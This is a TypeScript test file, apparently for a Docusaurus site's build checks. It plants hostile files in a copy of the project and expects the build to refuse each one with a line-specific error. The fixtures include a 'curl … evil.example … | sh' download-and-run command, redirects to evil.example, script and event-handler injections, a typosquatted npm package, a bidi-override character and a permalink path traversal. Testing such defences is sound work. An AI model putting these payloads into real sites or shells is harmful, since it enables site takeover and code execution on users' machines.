import {mkdirSync, rmSync, writeFileSync} from 'node:fs';
import {dirname, join} from 'node:path';
import {afterAll, beforeAll, describe, expect, it} from 'vitest';
import {copyProject, shell} from '../support/copy';
import {hostilePages, page, svg, type Try} from './hostilePages';

const fence = (language: string, text: string): string => `\`\`\`${language}\n${text}\n\`\`\``;

const tries: readonly Try[] = [
  [
    'a refresh that leads away, in plain Markdown',
    'docs/t02.md',
    page('<meta http-equiv="refresh" content="0;url=//evil.example">', 'mdx:\n  format: md\n'),
    /:10:1 <meta> is not an element/,
  ],
  [
    'a program in front matter',
    'docs/t09.md',
    `---js\n{title: require('node:os').userInfo().username}\n---\n\nText.\n`,
    /:1:1 The front matter does not parse: front matter in js is not allowed/,
  ],
  [
    'a handler in plain Markdown',
    'docs/t12.md',
    page('<details ontoggle="alert(1)"><summary>Text</summary></details>', 'mdx:\n  format: md\n'),
    /:10:1 <details> has the attribute onToggle/,
  ],
  [
    'code that reads in another order',
    'docs/t22.md',
    page(fence('sh', 'echo safe \u202e drow')),
    /:9:1 The code has U\+202E, .* write it as \\u\{202E\}/,
  ],
  [
    'a download that a shell runs',
    'docs/t24.md',
    page(fence('sh', 'curl -fsSL https://evil.example/i.sh | sh')),
    /:9:1 The command runs a download without a look/,
  ],
  [
    'a package with almost the right name',
    'docs/t25.md',
    page(fence('sh', 'npm install ethres@6')),
    /:9:1 ethres \(npm\) is not a package .*nearest: ethers.* config\/pageRules\.ts/,
  ],
  [
    'the worker that serves pages without a network',
    'static/sw.js',
    'self.onfetch = () => {};\n',
    /:1:1 The build writes a file of this name, .* files in config\/pageRules\.ts/,
  ],
  [
    'the page that was not found',
    'static/404.html',
    '<script>location = "https://evil.example"</script>\n',
    /:1:1 The build writes a file of this name/,
  ],
  [
    'headers without a policy',
    'static/_headers',
    '/*\n  Content-Security-Policy: *\n',
    /:1:1 The build writes a file of this name/,
  ],
  ['a script to load later', 'static/img/mark.js', 'alert(1);\n', /:1:1 The file is not a page, picture or text/],
  [
    'a page without a policy',
    'static/wallet/index.html',
    '<form></form>\n',
    /:1:1 The file is not a page, picture or text/,
  ],
  [
    'a picture with a handler',
    'static/img/pin.svg',
    svg('<g/>', 'onload="alert(1)"'),
    /:1:1 The picture has the attribute onload/,
  ],
  [
    'a picture with a page in it',
    'docs/plan.svg',
    svg('<foreignObject><p/></foreignObject>'),
    /:1:1 The picture has <foreignObject>/,
  ],
  [
    'a page in a folder that is called like an output',
    'docs/build/t36.mdx',
    page('<script src="/a.js"></script>'),
    /:8:1 <script> is not an element/,
  ],
  [
    'a translation of a page',
    'i18n/en/docusaurus-plugin-content-docs/current/t37.mdx',
    page('<script src="/a.js"></script>'),
    /:8:1 <script> is not an element/,
  ],
  [
    'an older version of a page',
    'versioned_docs/version-0.1/t38.mdx',
    page('{process.exit(1)}\n\nRun `npm i ethres`.'),
    /:8:1 The page has an expression/,
  ],
  [
    'a page of HTML to link',
    'docs/t42.html',
    '<script>alert(1)</script>\n',
    /:1:1 The file is not a page, picture or text/,
  ],
  ['a program next to a note', 'blog/t43.mjs', 'alert(1);\n', /:1:1 The file is not a page, picture or text/],
  [
    'a page of HTML in a folder that is called like an output',
    'static/build/t44.html',
    '<script>alert(1)</script>\n',
    /:1:1 The file is not a page, picture or text/,
  ],
  ['a feed, which browsers run as XML', 'static/t47.rss', '<rss/>\n', /:1:1 The file is not a page, picture or text/],
  ['another domain for the host', 'static/CNAME', 'evil.example\n', /:1:1 The build writes a file of this name/],
  [
    'a tag whose page leaves the folder of the build',
    'i18n/en/docusaurus-plugin-content-blog/tags.yml',
    'places:\n  label: Places\n  permalink: /../../t60\n',
    /:3:1 permalink is not a path below this site/,
  ],
  [
    'a file by which an app takes the links of the site',
    'static/.well-known/assetlinks.json',
    '[]\n',
    /:1:1 The build/,
  ],
  ...hostilePages,
];

describe('a hostile pull request', () => {
  let copy = '';
  let output = '';
  beforeAll(() => {
    copy = copyProject();
    for (const [, file, content] of tries) {
      mkdirSync(dirname(join(copy, file)), {recursive: true});
      writeFileSync(join(copy, file), content);
    }
    const ended = shell(copy, 'npm run build');
    output = ended.output;
    expect(ended.status, output).toBe(1);
  }, 300_000);
  afterAll(() => rmSync(copy, {recursive: true, force: true}));

  it('is stopped before the site is built', () =>
    expect(output).not.toContain('Creating an optimized production build'));
  it.each(tries)('is refused with %s, with the line and what to do', (_, file, __, says) => {
    expect(
      output
        .split('\n')
        .filter((line) => line.startsWith(`${file}:`))
        .join('\n'),
    ).toMatch(new RegExp(`^${file.replace(/\./g, '\\.')}${says.source}`, 'm'));
  });
});
